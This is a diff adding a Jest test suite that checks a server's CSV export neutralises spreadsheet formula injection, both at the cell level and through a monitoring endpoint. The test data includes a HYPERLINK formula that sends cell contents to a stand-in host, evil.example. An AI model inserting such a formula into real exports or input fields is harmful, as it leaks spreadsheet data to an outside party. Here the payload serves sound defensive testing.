@@ -1,0 +1,45 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import request from 'supertest';
+import { neutraliseCell, toCsv } from '../../server/src/http/csv.js';
+import { startPlatform, type RunningPlatform } from '../helpers/platform.js';
+
+const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B3,"Tunewave")';
+
+describe('CSV exports never run formulas (OWASP CSV Injection)', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', "'\rcmd"],
+    ['Tunewave', 'Tunewave'],
+    ['a=b', 'a=b'],
+  ])('When a text cell is %j, then it is written as %j', (cell, expected) => {
+    expect(neutraliseCell(cell)).toBe(expected);
+  });
+
+  it('When rows mix text and numbers, then formula text is quoted with a leading apostrophe and numbers stay numbers', () => {
+    expect(toCsv([[EVIL_NAME, -5, 'ok']])).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B3,""Tunewave"")",-5,ok\n`);
+  });
+
+  describe('/monitor/exposure.csv', () => {
+    let gh: RunningPlatform;
+    beforeAll(async () => {
+      gh = await startPlatform();
+    });
+    afterAll(async () => {
+      await gh.close();
+    });
+
+    it('When a client registers with a formula as its name, then its cell in the export starts with an apostrophe', async () => {
+      const reg = await request(gh.url).post('/reg').set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
+        .send({ client_name: EVIL_NAME, redirect_uris: ['https://evil.example/cb'], scope: 'profile' }).expect(201);
+      const csv = await request(gh.url).get('/monitor/exposure.csv').set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`).expect(200);
+      const line = csv.text.split('\n').find((l) => l.startsWith(reg.body.client_id as string));
+      expect(line).toBeDefined();
+      expect(line!.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B3`);
+      expect(csv.text).not.toMatch(/(^|,)=/m);
+    });
+  });
+});
